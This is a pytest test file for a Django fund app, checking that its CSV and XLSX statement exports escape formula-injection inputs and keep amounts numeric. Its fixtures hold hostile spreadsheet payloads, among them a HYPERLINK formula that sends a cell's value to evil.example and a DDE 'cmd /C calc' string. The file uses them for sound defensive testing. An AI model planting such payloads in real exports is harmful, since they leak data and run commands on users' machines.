"""The statement's CSV and XLSX: text anyone typed is shown, never run as a formula;
a control character in a name never breaks the XLSX; amounts stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal, InvalidOperation

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS
from funds import services
from tests.factories import AccountResidentFactory
from tests.funds.factories import donate, ready_fund, spend

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
# What a leader typed, and how the export must show it.
TYPED = {
    "donor": ("张\x1b三", "张三"),
    "note": ("\x1b\t=1+1", "'\t=1+1"),  # the services strip a leading tab, not ESC
    "payee": ("+1", "'+1"),
    "purpose": ("\x1b\r-1+1", "'\r-1+1"),
    "reason": ("-1+1", "'-1+1"),
    "receipt": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "approval": (HYPERLINK, "'" + HYPERLINK),
    "item": ("\x1b=花盆", "'=花盆"),
    "unit": ("-盆", "'-盆"),
    "used_for": ("=A1", "'=A1"),
}


def typed(name):
    return TYPED[name][0]


@pytest.fixture
def hostile(building):
    """A period whose every typed text is a formula, with an escape character in a name."""
    with time_machine.travel(date(2026, 5, 20), tick=False):
        fund, leader, rule = ready_fund(building)
        donate(
            fund,
            leader,
            "1000",
            occurred_on=date(2026, 5, 2),
            donor_name=typed("donor"),
            public_name="name",
            note=typed("note"),
        )
        spend(
            fund,
            leader,
            "200.50",
            rule,
            occurred_on=date(2026, 5, 3),
            payee=typed("payee"),
            purpose=typed("purpose"),
            receipt_number=typed("receipt"),
            approval_text=typed("approval"),
        )
        mistake = donate(fund, leader, "10", occurred_on=date(2026, 5, 6))
        services.reverse_entry(entry=mistake, reason=typed("reason"), by=leader)
        goods, _created = services.record_goods(
            fund=fund,
            item=typed("item"),
            quantity=Decimal("20"),
            unit=typed("unit"),
            received_on=date(2026, 5, 4),
            by=leader,
        )
        services.use_goods(
            goods=goods,
            quantity=Decimal("5"),
            used_for=typed("used_for"),
            occurred_on=date(2026, 5, 5),
            by=leader,
        )
    client_user = AccountResidentFactory(household__building=building).user
    return fund, client_user


QUERY = {"start": "2026-05-01", "end": "2026-05-31"}


def is_number(text) -> bool:
    """An amount such as -10.00 (a reversal) is a number, not a formula."""
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def assert_shown_never_run(texts, names, line_end="\r"):
    texts = [text for text in texts if text]
    for text in texts:
        assert not text.startswith(FORMULA_STARTS) or is_number(text), text
        assert "\x1b" not in text, text
    for name in names:
        shown = TYPED[name][1]
        assert shown.replace("\r", line_end) in texts, shown


def test_csv_cells_are_shown_never_run(hostile, login):
    fund, user = hostile
    response = login(user).get(
        reverse("funds:statement-csv", args=[fund.building_id]), QUERY
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    # The CSV is the ledger only; the goods are on the XLSX's second sheet.
    ledger = ["donor", "note", "payee", "purpose", "reason", "receipt", "approval"]
    assert_shown_never_run([cell for row in rows for cell in row], ledger)
    assert any("1000.00" in row for row in rows)
    assert any("200.50" in row for row in rows)


def test_xlsx_never_fails_and_holds_text_not_formulas(hostile, login):
    fund, user = hostile
    response = login(user).get(
        reverse("funds:statement-xlsx", args=[fund.building_id]), QUERY
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert_shown_never_run(
        [cell.value for cell in cells if cell.data_type == "s"],
        TYPED,
        line_end="\n",  # XML reads a carriage return back as a line feed
    )
    numbers = [
        Decimal(str(cell.value))
        for cell in cells
        if cell.data_type == "n" and cell.value is not None
    ]
    assert Decimal("1000") in numbers and Decimal("200.50") in numbers


def test_xlsx_amounts_are_written_with_two_decimals(hostile, login):
    """Every amount of the XLSX is a number shown with fen and thousands, as the page
    writes it (a number without a format shows 1000 for ¥1,000.00, 200.5 for ¥200.50)."""
    fund, user = hostile
    response = login(user).get(
        reverse("funds:statement-xlsx", args=[fund.building_id]), QUERY
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    amounts = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "n" and cell.value is not None
    ]
    assert {Decimal(str(cell.value)) for cell in amounts} >= {
        Decimal("1000"),
        Decimal("200.50"),
    }
    assert {cell.number_format for cell in amounts} == {"#,##0.00"}
